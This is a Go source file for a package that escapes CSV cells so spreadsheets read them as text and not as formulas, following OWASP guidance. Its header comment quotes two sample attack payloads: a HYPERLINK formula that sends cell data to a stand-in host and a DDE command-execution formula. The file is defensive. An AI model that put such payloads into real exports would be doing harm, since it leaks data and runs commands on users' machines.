// Package csvsafe writes CSV that a spreadsheet opens as data, never as
// formulas: every CSV touchbase writes for people (segment exports, import
// error reports) goes through it, so that a customer's user id of
// `=HYPERLINK("https://evil.example/?"&A2, "click")` or an email of
// `=cmd|' /C calc'!A0@x.example` arrives as the text it is.
//
// It follows OWASP's CSV injection guidance: a cell that begins with =, +,
// -, @, a tab or a carriage return gets a leading single quote, which
// spreadsheets read as "this cell is text" (and Excel and LibreOffice do
// not display). One exception: a cell that is entirely a plain number
// ("+491701234567", "-12.5", "1e3") is left as it is. It cannot hold a
// formula (no function, no reference, no operator but its sign), and an
// E.164 phone number must reach ad platforms exactly as E.164; a quote
// would make it another string. A phone written with spaces or dashes
// ("+49 30 1234") is not a plain number and gets the quote.
package csvsafe

import (
	"encoding/csv"
	"io"
	"strings"
)

// Cell returns s as a spreadsheet reads it as text: with a leading single
// quote when it begins with a formula character and is not a plain number.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		if !plainNumber(s) {
			return "'" + s
		}
	}
	return s
}

// plainNumber reports whether s is a decimal number and nothing else: an
// optional sign, digits with at most one decimal point (at least one
// digit), and an optional exponent.
func plainNumber(s string) bool {
	s = trimSign(s)
	mant, exp, hasExp := s, "", false
	if i := strings.IndexAny(s, "eE"); i >= 0 {
		mant, exp, hasExp = s[:i], trimSign(s[i+1:]), true
	}
	digits, point := 0, false
	for i := 0; i < len(mant); i++ {
		switch c := mant[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !point:
			point = true
		default:
			return false
		}
	}
	if digits == 0 || (hasExp && exp == "") {
		return false
	}
	for i := 0; i < len(exp); i++ {
		if exp[i] < '0' || exp[i] > '9' {
			return false
		}
	}
	return true
}

func trimSign(s string) string {
	if s != "" && (s[0] == '+' || s[0] == '-') {
		return s[1:]
	}
	return s
}

// Writer is a csv.Writer whose every cell goes through Cell.
type Writer struct {
	w   *csv.Writer
	row []string
}

// NewWriter returns a Writer to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record, each cell made safe. The record is not changed.
func (w *Writer) Write(record []string) error {
	w.row = w.row[:0]
	for _, s := range record {
		w.row = append(w.row, Cell(s))
	}
	return w.w.Write(w.row)
}

// Flush writes any buffered data to the underlying io.Writer.
func (w *Writer) Flush() { w.w.Flush() }

// Error reports any error of a previous Write or Flush.
func (w *Writer) Error() error { return w.w.Error() }
